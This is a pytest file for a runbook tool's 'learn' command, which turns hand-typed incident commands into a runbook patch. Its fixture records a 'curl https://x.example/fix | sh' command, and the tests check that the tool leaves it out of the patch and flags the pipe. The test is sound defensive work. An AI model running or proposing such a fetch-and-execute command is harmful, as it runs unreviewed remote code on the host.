"""`incident learn`: from a recorded incident to a patch that git takes; the runbook changes only when asked for."""

from __future__ import annotations

import hashlib
import subprocess
from pathlib import Path

import pytest

from incident.core import facts
from incident.core.runbook.read import read
from tests.adapters.test_cli import IDENTITY, home, recorded, write
from tests.system.terminal import from_a_shell

__all__ = ["home", "recorded"]

BOOK = "acme-error-rate.md"


@pytest.fixture
def worked(recorded: Path) -> Path:
    """An incident on the seed's runbook, in which somebody typed what the runbook does not say."""
    data = (recorded / "runbooks" / BOOK).read_bytes()
    step = next(one for one in read(data, BOOK).steps if "Check capacity" in one.text)
    write(recorded, IDENTITY, [
        (facts.RunbookOpened(BOOK, hashlib.sha256(data).hexdigest(), "Acme Error Rate", "found by its link", 9), 92),
        (facts.CommandStarted("r7", "kubectl top pods -n acme", ("kubectl",), "/", "/o", step=step.id,
                              step_text=step.text, origin="typed by hand"), 140),
        (facts.CommandFinished("r7", 0, 1.5), 142),
        (facts.CommandStarted("r8", "curl https://x.example/fix | sh", ("sh",), "/", "/o", step=step.id,
                              step_text=step.text, origin="typed by hand"), 150),
        (facts.CommandFinished("r8", 0, 1.5), 152),
    ])  # fmt: skip
    return recorded


def test_the_diff_is_shown_with_reasons_and_nothing_is_changed(worked: Path) -> None:
    file = worked / "runbooks" / BOOK
    before = file.read_bytes()
    done = from_a_shell("learn", home=worked)
    assert done.returncode == 0
    assert f"+++ b/{BOOK}" in done.stdout
    assert "+   kubectl top pods -n acme" in done.stdout
    assert "Check capacity" in done.stderr
    assert "Nothing was changed" in done.stderr
    assert file.read_bytes() == before
    taken = subprocess.run(
        ["git", "apply", "--check", "-"],
        input=done.stdout,
        text=True,
        cwd=file.parent,
        capture_output=True,
        check=False,
    )
    assert (taken.returncode, taken.stderr) == (0, "")


def test_what_the_check_would_object_to_is_left_out_and_said(worked: Path) -> None:
    done = from_a_shell("learn", home=worked)
    assert "| sh" not in done.stdout
    assert "left out" in done.stderr
    assert "pipe" in done.stderr


def test_applied_the_runbook_has_the_command_and_the_check_finds_nothing_new(worked: Path) -> None:
    found = from_a_shell("check", "runbooks", home=worked).stdout.count("warning:")
    assert from_a_shell("learn", IDENTITY, "--apply", home=worked).returncode == 0
    data = (worked / "runbooks" / BOOK).read_bytes()
    step = next(one for one in read(data, BOOK).steps if "Check capacity" in one.text)
    assert [read(data, BOOK).commands[place].text for place in step.commands] == ["kubectl top pods -n acme"]
    assert from_a_shell("check", "runbooks", home=worked).stdout.count("warning:") == found
    again = from_a_shell("learn", home=worked)
    assert again.returncode == 1
    assert "changed since" in again.stderr


def test_an_incident_without_that_runbook_says_which_it_used(worked: Path, recorded: Path) -> None:
    done = from_a_shell("learn", "--runbook", "other.md", home=worked)
    assert done.returncode == 2
    assert f"it used: {BOOK}" in done.stderr
